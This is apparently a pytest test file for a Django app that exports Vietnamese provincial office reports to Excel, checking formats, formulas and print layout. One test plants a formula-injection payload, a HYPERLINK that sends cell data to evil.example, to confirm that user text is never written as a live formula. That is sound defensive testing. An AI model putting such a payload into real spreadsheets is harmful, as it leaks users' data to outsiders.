"""The conference workbook: read back with openpyxl, cell by cell, against the report."""

import re
import subprocess
import zipfile
from datetime import datetime
from decimal import Decimal
from io import BytesIO
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from officereports.reports import excel, totals, xlsx
from officereports.reports.models import Directive, Figure, Report
from officereports.reports.rates import round_half_up
from tests.conftest import require_libreoffice

EXPORTED_AT = datetime(2023, 1, 5, 9, 30, tzinfo=ZoneInfo("Asia/Ho_Chi_Minh"))


@pytest.fixture
def download(client):
    def get(user, slug="thua-thien-hue", year=2022):
        client.force_login(user)
        with time_machine.travel(EXPORTED_AT, tick=False):
            response = client.get(reverse("reports:workbook", args=[slug, year]))
        assert response.status_code == 200
        assert response["Content-Type"] == xlsx.XLSX_CONTENT_TYPE
        return response

    return get


def _workbook(response, **kwargs):
    return load_workbook(BytesIO(response.content), **kwargs)


def _rows_by_name(ws):
    """Indicator or section name (column B) -> worksheet row."""
    return {ws.cell(r, 2).value: r for r in range(1, ws.max_row + 1) if ws.cell(r, 2).value}


def test_it_requires_login(client, hue_report):
    response = client.get(reverse("reports:workbook", args=["thua-thien-hue", 2022]))
    assert response.status_code == 302


def test_it_checks_ownership(client, outsider, hue_report):
    client.force_login(outsider)
    response = client.get(reverse("reports:workbook", args=["thua-thien-hue", 2022]))
    assert response.status_code == 404


def test_it_names_the_file_after_the_office_and_year(download, staff, hue_report):
    response = download(staff)
    assert response["Content-Disposition"] == (
        'attachment; filename="bao-cao-thua-thien-hue-2022.xlsx"'
    )


def test_it_has_the_three_sheets_with_short_titles(download, staff, hue_report):
    wb = _workbook(download(staff))
    assert wb.sheetnames == ["Số liệu năm 2022", "Hội nghị", "Thông tin tệp"]
    assert all(len(title) <= 31 for title in wb.sheetnames)


def test_it_writes_the_official_heading(download, staff, hue_report):
    ws = _workbook(download(staff))["Số liệu năm 2022"]
    assert ws["A1"].value == "UBND TỈNH THỪA THIÊN HUẾ"
    assert ws["A2"].value == "VĂN PHÒNG"
    assert ws["D1"].value == "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM"
    assert ws["D2"].value == "Độc lập - Tự do - Hạnh phúc"
    assert ws["D3"].value == "Thừa Thiên Huế, ngày 05 tháng 01 năm 2023"
    assert ws["A5"].value == "BÁO CÁO SỐ LIỆU CÔNG TÁC NĂM 2022"
    assert ws["A6"].value == (
        "Văn phòng UBND tỉnh Thừa Thiên Huế – kỳ báo cáo từ 15/12/2021 đến 14/12/2022"
    )
    merged = {str(r) for r in ws.merged_cells.ranges}
    assert {"A1:C1", "D1:H1", "A2:C2", "D2:H2", "A5:H5"} <= merged
    assert ws["D2"].font.bold and ws["D2"].font.underline == "single"


def test_it_writes_the_numbered_table_header(download, staff, hue_report):
    ws = _workbook(download(staff))["Số liệu năm 2022"]
    assert [c.value for c in ws[8]] == [
        "STT",
        "Chỉ tiêu",
        "Đơn vị tính",
        "Năm 2021",
        "Năm 2022",
        "Tăng/giảm so với năm trước",
        "Tỷ lệ",
        "Ghi chú",
    ]
    assert [c.value for c in ws[9]] == ["(1)", "(2)", "(3)", "(4)", "(5)", "(6)", "(7)", "(8)"]


def test_it_writes_every_figure_as_a_number_and_leaves_missing_ones_empty(
    download, staff, hue_report
):
    ws = _workbook(download(staff))["Số liệu năm 2022"]
    rows = _rows_by_name(ws)
    values = hue_report.values()
    indicators = {f.indicator.name: f.indicator.code for f in hue_report.figures.all()}
    for name, code in indicators.items():
        row = rows[name]
        assert ws.cell(row, 5).value == values.get(code), name
        # No previous report for 2021: that column is empty, never 0.
        assert ws.cell(row, 4).value is None
    assert ws.cell(rows["Đơn thư tiếp nhận"], 5).number_format == "#,##0"
    assert ws.cell(rows["Hồ sơ tiếp nhận"], 5).value == 83408
    assert ws.cell(rows["Hồ sơ tiếp nhận"], 3).value == "hồ sơ"
    # Stated as 100% without counts: the count cell stays empty.
    assert ws.cell(rows["Nhiệm vụ trọng tâm được đôn đốc, theo dõi"], 5).value is None


def test_it_numbers_sections_and_rows(download, staff, hue_report):
    ws = _workbook(download(staff))["Số liệu năm 2022"]
    rows = _rows_by_name(ws)
    assert ws.cell(rows["CÔNG TÁC THAM MƯU, TỔNG HỢP"], 1).value == "I"
    assert ws.cell(rows["TIẾP CÔNG DÂN"], 1).value == "II"
    assert ws.cell(rows["GIẢI QUYẾT THỦ TỤC HÀNH CHÍNH"], 1).value == "IV"
    assert ws.cell(rows["GIẢI QUYẾT THỦ TỤC HÀNH CHÍNH"], 8).value == (
        "Số liệu của Trung tâm Phục vụ hành chính công tỉnh"
    )
    assert ws.cell(rows["Đơn thư tiếp nhận"], 1).value == 1
    assert ws.cell(rows["Đơn không đủ điều kiện xử lý"], 1).value == 3
    # Sections without any figure are left out (Huế reported no document counts).
    assert "CÔNG TÁC VĂN THƯ, XỬ LÝ VĂN BẢN" not in rows


def test_rates_are_formulas_over_the_count_cells(download, staff, hue_report, catalog):
    ws = _workbook(download(staff))["Số liệu năm 2022"]
    rows = _rows_by_name(ws)
    passed, planned = (
        rows["Chương trình, đề án, báo cáo, VBQPPL đã thông qua"],
        rows["Chương trình, đề án, báo cáo, VBQPPL trong chương trình công tác năm"],
    )
    issued = rows["Văn bản quy phạm pháp luật đã ban hành"]
    legal_planned = rows["Văn bản quy phạm pháp luật theo kế hoạch"]
    resolved, received = rows["Hồ sơ đã giải quyết"], rows["Hồ sơ tiếp nhận"]
    eligible, petitions = rows["Đơn đủ điều kiện xử lý"], rows["Đơn thư tiếp nhận"]
    assert ws.cell(passed, 7).value == f"=E{passed}/E{planned}"
    assert ws.cell(passed, 7).number_format == "0.00%"
    assert ws.cell(issued, 7).value == f"=E{issued}/E{legal_planned}"
    assert ws.cell(issued, 7).number_format == "0.00%"
    assert ws.cell(resolved, 7).value == f"=E{resolved}/E{received}"
    assert ws.cell(resolved, 7).number_format == "0.0%"
    assert ws.cell(eligible, 7).value == f"=E{eligible}/E{petitions}"
    assert ws.cell(eligible, 7).number_format == "0.00%"
    assert (passed, planned) == (12, 11)  # the layout the printed table is checked against
    # Each rate says what it divides by, as every rate shown must.
    definition = catalog.rates["rate.dossiers_resolved"]
    assert ws.cell(resolved, 8).value == f"{definition.name}: chia cho {definition.basis}"


def test_a_stated_rate_without_counts_is_a_number_with_a_note(download, staff, hue_report):
    ws = _workbook(download(staff))["Số liệu năm 2022"]
    row = _rows_by_name(ws)["Nhiệm vụ trọng tâm được đôn đốc, theo dõi"]
    assert ws.cell(row, 7).value == 1
    assert ws.cell(row, 7).data_type == "n"
    assert ws.cell(row, 7).number_format == "0%"
    assert ws.cell(row, 8).value == (
        "Tỷ lệ nhiệm vụ trọng tâm được đôn đốc, theo dõi: chia cho số nhiệm vụ trọng tâm; "
        "tỷ lệ do đơn vị nêu (100%), không có đủ số liệu để tính; "
        "Báo cáo chỉ nêu tỷ lệ, không nêu số nhiệm vụ."
    )


def test_approximate_counts_keep_their_word_and_give_no_rate(download, leader, khanh_hoa_report):
    ws = _workbook(download(leader, "khanh-hoa", 2020))["Số liệu năm 2020"]
    rows = _rows_by_name(ws)
    incoming = rows["Văn bản đến (tiếp nhận)"]
    processed = rows["Văn bản đến đã xử lý"]
    assert ws.cell(incoming, 5).value == 52900
    assert ws.cell(incoming, 5).number_format == '"hơn "#,##0'
    # "hơn 52.900" over "hơn 52.900" is not a measured rate: no formula, no value.
    assert ws.cell(processed, 7).value is None
    on_time = rows["Hồ sơ trả đúng hạn"]
    assert ws.cell(on_time, 5).value is None
    assert ws.cell(on_time, 7).value == 1
    # A whole stated value is written "100%", not "100,0%".
    assert ws.cell(on_time, 7).number_format == "0%"
    assert ws["A1"].value == "UBND TỈNH KHÁNH HÒA"


def test_the_change_column_is_a_formula_against_last_year(download, staff, hue_report, catalog):
    previous = Report.objects.create(office=hue_report.office, year=2021)
    Figure.objects.create(
        report=previous, indicator=catalog.indicators["dossiers.received"], value=80000
    )
    Figure.objects.create(
        report=previous,
        indicator=catalog.indicators["petitions.received"],
        value=700,
        qualifier="gan",
    )
    ws = _workbook(download(staff))["Số liệu năm 2022"]
    rows = _rows_by_name(ws)
    received = rows["Hồ sơ tiếp nhận"]
    assert ws.cell(received, 4).value == 80000
    assert ws.cell(received, 6).value == f"=E{received}/D{received}-1"
    assert ws.cell(received, 6).number_format == "+0.0%;-0.0%;0.0%"
    petitions = rows["Đơn thư tiếp nhận"]
    assert ws.cell(petitions, 4).value == 700
    assert ws.cell(petitions, 4).number_format == '"gần "#,##0'
    # No change is measured against an approximate count.
    assert ws.cell(petitions, 6).value is None
    # Figures of last year only still get a row, with this year empty.
    resolved = rows["Hồ sơ đã giải quyết"]
    assert ws.cell(resolved, 4).value is None


def test_it_is_ready_for_the_printer(download, staff, hue_report):
    ws = _workbook(download(staff))["Số liệu năm 2022"]
    assert ws.page_setup.paperSize == 9  # A4 in the OOXML paper-size table
    assert ws.page_setup.orientation == "landscape"
    assert ws.sheet_properties.pageSetUpPr.fitToPage is True
    # Every column on the page width, the table and its signatures on one page.
    assert (ws.page_setup.fitToWidth, ws.page_setup.fitToHeight) == (1, 1)
    margins = ws.page_margins
    assert (margins.left, margins.right, margins.top, margins.bottom) == (0.6, 0.4, 0.5, 0.5)
    assert ws.print_options.horizontalCentered is True
    assert ws.print_title_rows == "$8:$9"
    assert ws.freeze_panes == "C10"
    assert ws.column_dimensions["B"].width == excel.TABLE_WIDTHS[1]
    assert ws.column_dimensions["H"].width == excel.TABLE_WIDTHS[7]
    assert ws["B12"].font.name == "Times New Roman"
    # A wrapped indicator name gets a row tall enough for its two lines.
    assert ws.row_dimensions[11].height == 2 * 15.6 + 4


def test_the_conference_sheet_lists_attendees_directives_and_awards(
    download, leader, khanh_hoa_report
):
    ws = _workbook(download(leader, "khanh-hoa", 2020))["Hội nghị"]
    cells = {ws.cell(r, 1).value: r for r in range(1, ws.max_row + 1) if ws.cell(r, 1).value}
    assert ws.cell(cells["Thời gian"], 3).value == "Chiều, ngày 29 tháng 12 năm 2020"
    assert (
        ws.cell(cells["Tên hội nghị"], 3).value == "hội nghị cán bộ, công chức, viên chức năm 2020"
    )
    attendees = cells["ĐẠI BIỂU DỰ"] + 2
    assert [ws.cell(attendees, c).value for c in (1, 2, 3)] == [
        1,
        "Lê Hữu Hoàng",
        "Phó Chủ tịch Thường trực UBND tỉnh",
    ]
    assert ws.cell(attendees + 1, 2).value == "Nguyễn Anh Tuấn"
    directive = cells["Ý KIẾN CHỈ ĐẠO"] + 2
    assert ws.cell(directive, 2).value == "Lê Hữu Hoàng"
    assert ws.cell(directive, 4).value == khanh_hoa_report.directives.get().content
    award = cells["KHEN THƯỞNG"] + 2
    assert [ws.cell(award, c).value for c in (2, 3, 4)] == [
        "Tập thể",
        "UBND tỉnh và Văn phòng UBND tỉnh",
        "nhiều",
    ]
    assert ws.cell(cells["Tác giả bài viết"], 3).value == "MẠNH HÙNG"


def test_the_about_sheet_says_what_the_workbook_is(download, staff, hue_report):
    ws = _workbook(download(staff))["Thông tin tệp"]
    facts = {ws.cell(r, 1).value: ws.cell(r, 2).value for r in range(3, ws.max_row + 1)}
    assert facts["Văn phòng"] == "Văn phòng UBND tỉnh Thừa Thiên Huế"
    assert facts["Năm báo cáo"] == 2022
    assert facts["Trạng thái"] == "Đã duyệt"
    assert facts["Người xuất"] == "staff"
    assert facts["Thời điểm xuất"] == "05/01/2023 09:30"
    assert facts["Phần mềm"] == "officereports 0.1.0"


def test_text_people_wrote_is_never_a_formula(download, staff, hue_report):
    attack = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
    Directive.objects.create(report=hue_report, position=2, speaker="+Ai đó", content=attack)
    figure = hue_report.figures.get(indicator__code="dossiers.resolved")
    figure.comment = "@SUM(1+1)"
    figure.save()
    response = download(staff)
    wb = _workbook(response)
    ws = wb["Hội nghị"]
    cell = next(c for row in ws.iter_rows() for c in row if c.value == attack)
    assert cell.data_type == "s"
    assert cell.quotePrefix is True
    speaker = next(c for row in ws.iter_rows() for c in row if c.value == "+Ai đó")
    assert speaker.data_type == "s" and speaker.quotePrefix is True
    note = _rows_by_name(wb["Số liệu năm 2022"])["Hồ sơ đã giải quyết"]
    assert wb["Số liệu năm 2022"].cell(note, 8).value.endswith("; @SUM(1+1)")
    # And in the file itself: the conference sheet holds no formula element at all.
    with zipfile.ZipFile(BytesIO(response.content)) as archive:
        sheet = archive.read("xl/worksheets/sheet2.xml").decode()
    assert "HYPERLINK" in sheet
    assert "<f>" not in sheet


def test_it_runs_a_fixed_number_of_queries(client, staff, hue_report, django_assert_num_queries):
    client.force_login(staff)
    url = reverse("reports:workbook", args=["thua-thien-hue", 2022])
    # The session, the user, their memberships; office, report; previous report; figures
    # of both years with their indicators; former names, section units, attendees,
    # directives, awards; catalogue (indicators, rates, checks); conference
    with django_assert_num_queries(16):
        assert client.get(url).status_code == 200


def test_libreoffice_recalculates_the_rates_to_the_page_values(
    download, staff, hue_report, catalog, tmp_path
):
    (soffice,) = require_libreoffice()
    source = tmp_path / "in" / "report.xlsx"
    source.parent.mkdir()
    source.write_bytes(download(staff).content)
    subprocess.run(
        [
            soffice,
            f"-env:UserInstallation=file://{tmp_path / 'profile'}",
            "--headless",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(tmp_path / "out"),
            str(source),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    ws = load_workbook(tmp_path / "out" / "report.xlsx", data_only=True)["Số liệu năm 2022"]
    rows = _rows_by_name(ws)
    results = hue_report.rate_results(catalog)
    checked = {}
    for code, name in (
        ("rate.program_completion", "Chương trình, đề án, báo cáo, VBQPPL đã thông qua"),
        ("rate.legal_completion", "Văn bản quy phạm pháp luật đã ban hành"),
        ("rate.dossiers_resolved", "Hồ sơ đã giải quyết"),
        ("rate.petitions_eligible", "Đơn đủ điều kiện xử lý"),
    ):
        value = ws.cell(rows[name], 7).value
        result = results[code]
        assert value == pytest.approx(result.numerator / result.denominator, abs=1e-12)
        shown = round_half_up(Decimal(repr(value)) * 100, catalog.rates[code].decimals)
        assert shown == result.computed
        checked[code] = shown
    assert checked == {
        "rate.program_completion": Decimal("77.18"),
        "rate.legal_completion": Decimal("57.89"),
        "rate.dossiers_resolved": Decimal("98.2"),
        "rate.petitions_eligible": Decimal("96.55"),
    }


@pytest.fixture
def report_with(hue, catalog):
    """A Huế report (years from 2030 on) with its first `n` indicators filled in, and the
    value on its table's last row."""

    def make(n):
        report = Report.objects.create(office=hue, year=2030 + n)
        indicators = list(catalog.indicators.values())[:n]
        for number, indicator in enumerate(indicators, 1):
            Figure.objects.create(report=report, indicator=indicator, value=1000 + 37 * number)
        return report, 1000 + 37 * n

    return make


def test_a_table_longer_than_a_page_keeps_its_signatures_on_its_last_page(
    download, staff, report_with
):
    # 14 indicators fill a page but for the signatures, 30 take two pages.
    short, _ = report_with(14)
    long, _ = report_with(30)
    setups = []
    for report in (short, long):
        ws = _workbook(download(staff, year=report.year))[f"Số liệu năm {report.year}"]
        setups.append((ws.page_setup.fitToWidth, ws.page_setup.fitToHeight))
        # The signature block ends the sheet, with room to sign under it.
        signatures = max(r for r in range(1, ws.max_row + 1) if ws.cell(r, 1).value)
        assert ws.cell(signatures, 1).value == "(Ký, ghi rõ họ tên)"
        assert ws.cell(signatures - 1, 5).value == "CHÁNH VĂN PHÒNG"
    assert setups == [(1, 1), (1, 2)]


def _pdf_pages(source, tmp_path):
    """The text of each page of `source` printed to PDF by LibreOffice."""
    soffice, pdftotext = require_libreoffice("pdftotext")
    subprocess.run(
        [
            soffice,
            f"-env:UserInstallation=file://{tmp_path / 'profile'}",
            "--headless",
            "--convert-to",
            "pdf",
            "--outdir",
            str(tmp_path / "out"),
            str(source),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    pdf = tmp_path / "out" / source.with_suffix(".pdf").name
    text = subprocess.run(
        [pdftotext, "-layout", str(pdf), "-"], check=True, capture_output=True, text=True
    ).stdout
    return text.split("\f")


@pytest.mark.parametrize("filled", [5, 14, 15, 30])
def test_libreoffice_prints_the_signatures_with_the_last_rows_of_the_table(
    download, staff, report_with, tmp_path, filled
):
    """Printed as they were, 14 and 15 indicators left the signatures alone on page 2 under
    the repeated header."""
    report, last_value = report_with(filled)
    response = download(staff, year=report.year)
    fit = _workbook(response).worksheets[0].page_setup.fitToHeight
    source = tmp_path / "report.xlsx"
    source.write_bytes(response.content)
    pages = _pdf_pages(source, tmp_path)
    # The figures sheet prints first; the conference sheet starts on a page of its own.
    table = pages[: next(i for i, p in enumerate(pages) if "THÔNG TIN HỘI NGHỊ" in p)]
    assert len(table) == fit
    assert "NGƯỜI LẬP BIỂU" in table[-1] and "CHÁNH VĂN PHÒNG" in table[-1]
    # The last row's value, grouped as the printing machine's locale groups thousands.
    thousands, units = divmod(last_value, 1000)
    assert re.search(rf"\b{thousands}[.,]{units:03d}\b", table[-1])


def _written(*cells):
    sheet = excel.Sheet("Thử", [12] * len(cells), [excel.Row(list(cells))])
    return load_workbook(BytesIO(excel.write([sheet])))["Thử"]


def test_the_writer_keeps_each_kind_of_value_and_its_format():
    ws = _written(
        excel.Cell(83408, "td_num", "#,##0"),
        excel.Cell(Decimal("0.982"), "td_num", "0.0%"),
        excel.Cell(True, "td"),
        excel.Cell("  cách lề  ", "td"),
        excel.Cell("=1+1", "td"),
        excel.Cell(excel.Formula("=A1*2"), "td_num", "#,##0"),
        excel.Cell(None, "td_num"),
    )
    assert [c.value for c in ws[1]] == [83408, 0.982, True, "  cách lề  ", "=1+1", "=A1*2", None]
    assert [ws[ref].number_format for ref in ("A1", "B1", "F1")] == ["#,##0", "0.0%", "#,##0"]
    assert ws["E1"].data_type == "s" and ws["E1"].quotePrefix is True
    assert ws["D1"].quotePrefix is False
    assert ws["F1"].data_type == "f"
    # An empty cell keeps its style: the table's borders run through missing figures.
    assert ws["G1"].border.left.style == "thin"
    assert ws["G1"].font.name == "Times New Roman"


def test_the_writer_drops_control_characters_and_refuses_other_values():
    # XML cannot hold them: Word's line break becomes a newline, the others go.
    ws = _written(excel.Cell("chuông\x07", "td"), excel.Cell("một\x0bhai", "td"))
    assert [c.value for c in ws[1]] == ["chuông", "một\nhai"]
    with pytest.raises(TypeError, match="date"):
        _written(excel.Cell(datetime(2022, 12, 31).date(), "td"))


def test_a_rate_that_rounds_to_zero_keeps_its_first_digit(client, download, staff, hue_report):
    """100 of 500.000 dossiers is 0,02%: the formula's format has the two decimals it needs,
    and the summary page's article and table write it so."""
    figures = Figure.objects.filter(report=hue_report)
    figures.filter(indicator__code="dossiers.received").update(value=500_000)
    figures.filter(indicator__code="dossiers.resolved").update(value=100)
    totals.refresh(hue_report)
    ws = _workbook(download(staff))["Số liệu năm 2022"]
    rows = _rows_by_name(ws)
    resolved, received = rows["Hồ sơ đã giải quyết"], rows["Hồ sơ tiếp nhận"]
    assert ws.cell(resolved, 7).value == f"=E{resolved}/E{received}"
    assert ws.cell(resolved, 7).number_format == "0.00%"
    page = client.get(reverse("reports:summary", args=["thua-thien-hue", 2022])).text
    assert "giải quyết 100 hồ sơ, đạt 0,02%" in page
    assert ">0,02%<" in page


def test_what_the_office_stated_is_written_as_stated(download, staff, hue_report):
    indicators = {f.indicator.code: f for f in hue_report.figures.select_related("indicator")}
    from officereports.reports.models import Indicator

    def put(code, **fields):
        figure = indicators.get(code) or Figure(
            report=hue_report, indicator=Indicator.objects.get(code=code)
        )
        for name, value in fields.items():
            setattr(figure, name, value)
        figure.save()

    put(
        "documents.incoming",
        value=12000,
        stated_percent=Decimal("41.30"),
        percent_of="tổng số văn bản",
        stated_change=Decimal("-4.1"),
    )
    totals.refresh(hue_report)
    ws = _workbook(download(staff))["Số liệu năm 2022"]
    row = _rows_by_name(ws)["Văn bản đến (tiếp nhận)"]
    # The percentage as the author wrote it (one decimal), the change as stated.
    assert (ws.cell(row, 7).value, ws.cell(row, 7).number_format) == (0.413, "0.0%")
    assert ws.cell(row, 6).value == "giảm 4,1%"
    assert ws.cell(row, 8).value == (
        "tăng, giảm do đơn vị nêu; tỷ lệ do đơn vị nêu, tính trên tổng số văn bản"
    )
